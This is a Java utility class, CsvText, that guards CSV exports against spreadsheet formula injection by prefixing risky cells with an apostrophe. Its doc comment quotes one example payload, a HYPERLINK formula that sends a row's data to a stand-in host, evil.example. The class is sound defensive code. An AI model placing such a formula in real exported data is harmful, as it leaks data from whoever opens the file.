package org.haven.analytics.statistics;

/**
 * Text as every Haven CSV writes it. A spreadsheet opening a CSV takes a cell that starts with {@code =},
 * {@code +}, {@code -}, {@code @}, a tab or a carriage return for a formula, and runs it: an item text such as
 * {@code =HYPERLINK("http://evil.example/?leak="&A2)} would send the row's data away (OWASP's "CSV injection").
 * Such a text gets a leading apostrophe, which spreadsheets read as "this is text". Only texts and ids come here
 * (item texts, value labels, item and subscale ids); numbers never do, so a negative figure stays {@code -0.12}.
 * Ids of instruments published under the id rule start with a letter and are never changed.
 */
public final class CsvText {

    private CsvText() {
    }

    /** {@code text} itself, or with a leading apostrophe when a spreadsheet would read it as a formula. */
    public static String cell(String text) {
        if (text == null || text.isEmpty()) {
            return text;
        }
        return switch (text.charAt(0)) {
            case '=', '+', '-', '@', '\t', '\r' -> "'" + text;
            default -> text;
        };
    }
}
